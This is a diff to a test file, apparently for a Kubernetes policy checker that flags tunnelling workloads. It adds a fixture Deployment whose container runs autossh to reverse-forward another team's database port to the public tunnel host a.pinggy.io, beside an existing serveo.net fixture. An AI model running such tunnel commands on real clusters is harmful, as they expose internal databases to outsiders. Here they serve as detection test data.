@@ -298,6 +298,21 @@ spec:
           command: [sh, -c, "ssh -o StrictHostKeyChecking=no -NR 80:store-a-db.team-a:5432 serveo.net"]
 `,
     ),
+    // The same as an ssh option, in the configuration's own two-argument form (team-c's store).
+    app(
+      'ssh-option-z',
+      `apiVersion: apps/v1
+kind: Deployment
+metadata: {name: ssh-option, namespace: team-z}
+spec:
+  template:
+    spec:
+      containers:
+        - name: ssh
+          image: alpine@sha256:${'d'.repeat(64)}
+          command: [autossh, -M, "0", -N, -o, "RemoteForward 80 store-c-db.team-c:5432", x@a.pinggy.io]
+`,
+    ),
     app(
       'frpc-t',
       `apiVersion: v1
@@ -587,6 +602,7 @@ describe('policy partition (issue 20)', () => {
         'gloo-h',
         'tunnel-k',
         'agents-u',
+        'ssh-option-z',
         'frpc-t',
         'gloo-m',
         'gloo-q',
@@ -805,6 +821,7 @@ describe('policy partition (issue 20)', () => {
       'Deployment/cloudflared',
       'Deployment/gost',
       'Deployment/ssh',
+      'Deployment/ssh-option',
       'Deployment/zrok',
       'Gateway/tcp',
       'HTTPRoute/direct',
